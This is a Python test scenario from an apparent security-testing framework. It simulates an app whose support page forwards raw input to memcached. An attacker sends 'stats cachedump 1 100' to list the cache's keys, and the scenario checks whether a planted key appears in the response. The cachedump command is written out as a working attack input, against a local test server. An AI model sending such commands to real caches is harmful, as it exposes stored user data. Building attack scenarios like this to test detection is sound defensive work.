"""G8: a visitor lists the keys of a memcached, through an app that forwards raw input."""

from typing import Any

from backwatch.attack.authority import Authority
from backwatch.attack.protocols.memcached import Memcached
from backwatch.attack.protocols.server import HostileServer
from backwatch.attack.scenarios import Scenario

DUMP = "stats cachedump 1 100"


class MemcachedDump(Scenario):
    """On pymemcache, in an app whose support page forwards commands."""

    code = "G8"
    attack = "has the keys of a cache dumped"
    reference = "https://github.com/memcached/memcached/blob/master/doc/protocol.txt; ATT&CK T1213"
    driver = "pymemcache"
    rule = "cache-dump"

    @classmethod
    def service(cls, authority: Authority) -> HostileServer:
        """Return a server that stays honest."""
        return Memcached(authority)

    @classmethod
    def turn(cls, service: HostileServer) -> None:
        """Leave the server honest. The attacker comes through the app."""
        del service

    def hand_on(self, command: str, end: bytes) -> str:
        """Return the response as the page shows it."""
        import ssl
        from contextlib import closing

        from pymemcache.client.base import Client

        context = ssl.create_default_context(cafile=self.config.ca_file)
        client: Any = Client(("localhost", self.config.port), tls_context=context, connect_timeout=5, timeout=5)
        with closing(client):
            client.set("basket:7", "two apples")
            return client.raw_command(command, end_tokens=end).decode()

    def work(self) -> None:
        """Ask for the version as a visitor."""
        self.hand_on("version", b"\r\n")

    def meet(self) -> object:
        """Send what the attacker types."""
        return self.hand_on(DUMP, b"END\r\n")

    @classmethod
    def succeeded(cls, service: HostileServer, got: object) -> bool:
        """Return whether the response lists the keys."""
        del service
        return "ITEM basket:7" in str(got)
